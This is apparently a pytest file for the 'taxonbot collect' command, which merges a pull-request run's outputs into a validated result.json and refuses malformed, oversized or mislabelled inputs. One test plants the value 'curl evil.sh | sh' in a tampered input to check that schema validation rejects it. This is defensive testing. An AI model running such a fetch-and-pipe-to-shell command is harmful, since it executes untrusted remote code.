"""`taxonbot collect`: one pull-request run's outputs become result.json, or a clear refusal.

The inputs are made by the real producers (the check's JSON reporter, the diff's renderer,
`taxonbot gaps` without a model, the preview report over a fake backend), so a change in any of
them that result.json's schema does not allow fails here, in the unprivileged job's tests.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from taxonbot.check.reporters import REPORTERS, CheckReport
from taxonbot.cli.diff import render_json
from taxonbot.cli.main import main
from taxonbot.comment.result import (
    MAX_INPUT_BYTES,
    MAX_TOTAL_BYTES,
    SCHEMA_URI,
    CollectError,
    RunIdentity,
    collect,
    parse_input,
)
from taxonbot.schemas import validator
from taxonbot.sdg.pipeline import Budget
from taxonbot.sdg.report import write_preview
from taxonbot.sdg.session import LeafOutcome
from taxonbot.taxonomy.diff import ChangedLeaves, LeafChange
from taxonbot.taxonomy.findings import Position, error
from tests.doubles.fake_backend import FakeBackend

HEAD = "0123456789abcdef0123456789abcdef01234567"
LEAF = "taxonomy/compositional_skills/writing/freeform/haiku/qna.yaml"
RUN = RunIdentity(HEAD, run_id=987654321, run_attempt=2)
PREFIX = "taxonbot collect: "
GAP_LABELS = "['gap:confirmed', 'gap:known', 'overlap']"


# --------------------------------------------------------------------------- the four outputs


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("outputs")
    finding = error(
        "schema.min-items",
        LEAF,
        Position(4, 3),
        "`seed_examples` needs at least 5 items; it has 3.",
        "Add two more examples.",
        "seed_examples",
    )
    report = CheckReport((LEAF,), (finding,), "changed")
    (folder / "check.json").write_text(REPORTERS["json"](report), encoding="utf-8")
    blob = "89abcdef0123456789abcdef0123456789abcdef"
    change = LeafChange("added", LEAF, None, blob, "compositional_skills")
    leaves = ChangedLeaves("a" * 40, "b" * 40, "c" * 40, (change,))
    (folder / "diff.json").write_text(render_json(leaves, "main"), encoding="utf-8")
    outcomes = [LeafOutcome(LEAF, error="the preview ran out of time before this leaf")]
    write_preview(folder / "preview", outcomes, FakeBackend({}), Budget(pairs=2), seed=3)
    return folder


@pytest.fixture(scope="module")
def gaps_json(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """What `taxonbot gaps --overlap` writes when no leaf changed: no model needed."""
    folder = tmp_path_factory.mktemp("gaps")
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)
        assert main(["gaps", "--overlap", "--out", "gaps"]) == 0
    return folder / "gaps" / "gaps.json"


@pytest.fixture
def inputs(outputs: Path, gaps_json: Path) -> dict[str, Path]:
    return {
        "check": outputs / "check.json",
        "diff": outputs / "diff.json",
        "gaps": gaps_json,
        "preview": outputs / "preview" / "preview.json",
    }


def run_collect(
    out: Path, inputs: dict[str, Path], head: str = HEAD, run_id: str = "987654321"
) -> int:
    flags = [arg for name, path in inputs.items() for arg in (f"--{name}", str(path))]
    identity = ["--head-sha", head, "--run-id", run_id, "--run-attempt", "2"]
    return main(["collect", *flags, *identity, "--out", str(out)])


def schema_errors(result: Any) -> list[str]:
    return [e.message for e in validator(SCHEMA_URI).iter_errors(result)]


def raw(path: Path) -> bytes:
    return path.read_bytes()


# --------------------------------------------------------------------------- stories


def test_a_run_where_every_step_worked_bundles_all_four(
    inputs: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "deep" / "result.json"
    assert run_collect(out, inputs) == 0
    result = json.loads(out.read_bytes())
    assert schema_errors(result) == []
    assert list(result) == [
        "format",
        "head_sha",
        "run_id",
        "run_attempt",
        "check",
        "diff",
        "gaps",
        "preview",
    ]
    assert (result["format"], result["head_sha"], result["run_id"], result["run_attempt"]) == (
        "taxonbot-result/1",
        HEAD,
        987654321,
        2,
    )
    for name, path in inputs.items():
        assert result[name] == json.loads(path.read_bytes()), name
    assert result["check"]["findings"][0]["line"] == 4
    assert "wrote" in capsys.readouterr().err


def test_the_pull_request_number_has_no_place_in_result_json(inputs: dict[str, Path]) -> None:
    result = collect({n: raw(p) for n, p in inputs.items()}, RUN)
    assert not {"pr", "pr_number", "pull_request", "number", "repo"} & set(result)
    assert schema_errors({**result, "pr_number": 7}) == [
        "Additional properties are not allowed ('pr_number' was unexpected)"
    ]


def test_steps_that_made_no_output_are_null(inputs: dict[str, Path], tmp_path: Path) -> None:
    """The full install failed, so gaps and preview never ran; the comment still gets the check."""
    out = tmp_path / "result.json"
    assert run_collect(out, {"check": inputs["check"], "diff": inputs["diff"]}) == 0
    result = json.loads(out.read_bytes())
    assert result["gaps"] is None and result["preview"] is None
    assert result["check"]["format"] == "taxonbot-check/1"
    assert schema_errors(result) == []


def test_no_inputs_at_all_still_make_a_valid_result(tmp_path: Path) -> None:
    out = tmp_path / "result.json"
    assert run_collect(out, {}) == 0
    result = json.loads(out.read_bytes())
    assert [result[n] for n in ("check", "diff", "gaps", "preview")] == [None] * 4
    assert schema_errors(result) == []


def test_an_output_passed_to_the_wrong_flag_is_refused_with_the_right_flag(
    inputs: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "result.json"
    swapped = {"check": inputs["diff"], "diff": inputs["check"]}
    assert run_collect(out, swapped) == 1
    err = capsys.readouterr().err
    assert (
        f'--check {inputs["diff"]}: has format "taxonbot-diff/1"; --check takes '
        "'taxonbot-check/1'; that is the diff output: pass it with --diff" in err
    )
    assert f'--diff {inputs["check"]}: has format "taxonbot-check/1"' in err
    assert "result.json not written" in err
    assert not out.exists()


def test_a_file_with_no_format_is_refused(tmp_path: Path) -> None:
    with pytest.raises(CollectError) as caught:
        collect({"gaps": b'{"coverage": null}'}, RUN)
    assert [(p.source, p.message) for p in caught.value.problems] == [
        ("gaps", "has format missing; --gaps takes 'taxonbot-gaps/1'")
    ]


def test_an_oversized_input_is_refused_without_being_read_whole(
    inputs: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    big = tmp_path / "gaps.json"
    body = raw(inputs["gaps"])
    big.write_bytes(body[:-2] + b" " * MAX_INPUT_BYTES + b"}\n")  # valid JSON, just too big
    assert run_collect(tmp_path / "result.json", {"gaps": big}) == 1
    size = big.stat().st_size  # read only one byte past the cap, yet the message has it all
    assert (
        f"--gaps {big}: is {size:,} bytes; the limit is 5,242,880 bytes for one input"
        in capsys.readouterr().err
    )


def test_an_input_over_the_cap_given_whole_names_its_own_size() -> None:
    with pytest.raises(CollectError) as caught:
        parse_input("check", b" " * (MAX_INPUT_BYTES + 7))
    assert [(p.source, p.message) for p in caught.value.problems] == [
        ("check", "is 5,242,887 bytes; the limit is 5,242,880 bytes for one input")
    ]


def test_inputs_too_big_together_are_refused(inputs: dict[str, Path]) -> None:
    padding = MAX_TOTAL_BYTES // 3 + 1  # each under the per-input cap, together over the total
    assert padding < MAX_INPUT_BYTES
    padded = {n: raw(p).rstrip()[:-1] + b" " * padding + b"}" for n, p in inputs.items()}
    with pytest.raises(CollectError) as caught:
        collect(padded, RUN)
    assert [p.message for p in caught.value.problems] == [
        "the inputs hold 16.0 MiB together; the cap is 12 MiB"
    ]


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (b'{"format": "taxonbot-gaps/1",', "is not valid JSON: Expecting property name"),
        (b"", "is not valid JSON: Expecting value: line 1 column 1 (char 0)"),
        (b'{"format": "taxonbot-gaps/1", "format": "x"}', "duplicate key 'format'"),
        (b'{"format": "taxonbot-gaps/1", "notes": [NaN]}', "NaN is not JSON"),
        (b'["taxonbot-gaps/1"]', "must hold a JSON object; it holds a list"),
        (b'{"format": "taxonbot-gaps/1", "notes": "caf\xe9"}', "is not UTF-8 (byte 43)"),
        (b'{"x": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "is nested too deeply"),
        (b'{"x": ' + b"[" * 40 + b"]" * 40 + b"}", "nests deeper than 32 levels"),
    ],
    ids=["truncated", "empty", "duplicate key", "NaN", "array", "latin-1", "bomb", "deep"],
)
def test_a_file_that_is_not_taxonbot_json_is_refused_plainly(body: bytes, expected: str) -> None:
    with pytest.raises(CollectError) as caught:
        collect({"gaps": body}, RUN)
    (problem,) = caught.value.problems
    assert problem.source == "gaps"
    assert expected in problem.message


def test_a_schema_problem_points_into_the_file(
    inputs: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A pull request that changes taxonbot/ could make gaps emit anything; the schema says
    where."""
    tampered = json.loads(raw(inputs["gaps"]))
    tampered["labels"] = ["merge-me"]
    tampered["run"] = "curl evil.sh | sh"
    bad = tmp_path / "gaps.json"
    bad.write_text(json.dumps(tampered), encoding="utf-8")
    assert run_collect(tmp_path / "result.json", {**inputs, "gaps": bad}) == 1
    (line,) = [x for x in capsys.readouterr().err.splitlines() if x.startswith(f"{PREFIX}--gaps")]
    assert line in (
        f"{PREFIX}--gaps {bad}: $.labels[0]: 'merge-me' is not one of {GAP_LABELS} (and 1 more)",
        f"{PREFIX}--gaps {bad}: $: Additional properties are not allowed ('run' was unexpected)"
        " (and 1 more)",
    )


def test_every_problem_is_reported_at_once(inputs: dict[str, Path]) -> None:
    check = json.loads(raw(inputs["check"]))
    check["findings"][0]["severity"] = "fatal"
    bodies = {"check": json.dumps(check).encode(), "diff": b"{", "preview": raw(inputs["gaps"])}
    with pytest.raises(CollectError) as caught:
        collect(bodies, RunIdentity("HEAD", 0, 1))
    messages = {(p.source, p.message.split(":")[0]) for p in caught.value.problems}
    assert messages == {
        (None, "--head-sha must be a full 40-character lowercase hex commit id; got 'HEAD'"),
        (None, "--run-id must be a positive integer; got 0"),
        ("diff", "is not valid JSON"),
        (
            "preview",
            "has format \"taxonbot-gaps/1\"; --preview takes 'taxonbot-preview/1'; that is "
            "the gaps output",
        ),
        ("check", "$.findings[0].severity"),
    }


@pytest.mark.parametrize("head", ["abc123", HEAD.upper(), HEAD + "0", "0" * 64])
def test_the_head_commit_must_be_a_full_sha(
    head: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run_collect(tmp_path / "result.json", {}, head=head) == 1
    assert "--head-sha must be a full 40-character" in capsys.readouterr().err


def test_usage_errors(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    missing = tmp_path / "nowhere.json"
    assert run_collect(tmp_path / "result.json", {"check": missing}) == 2
    assert f"cannot read {missing}: No such file" in capsys.readouterr().err
    assert run_collect(tmp_path / "result.json", {"check": tmp_path}) == 2
    assert "not a regular file" in capsys.readouterr().err
    assert run_collect(tmp_path / "result.json", {}, run_id="latest") == 2
    assert "--run-id: invalid int value" in capsys.readouterr().err
    assert main(["collect", "--run-id", "1", "--run-attempt", "1"]) == 2
    assert "--head-sha" in capsys.readouterr().err
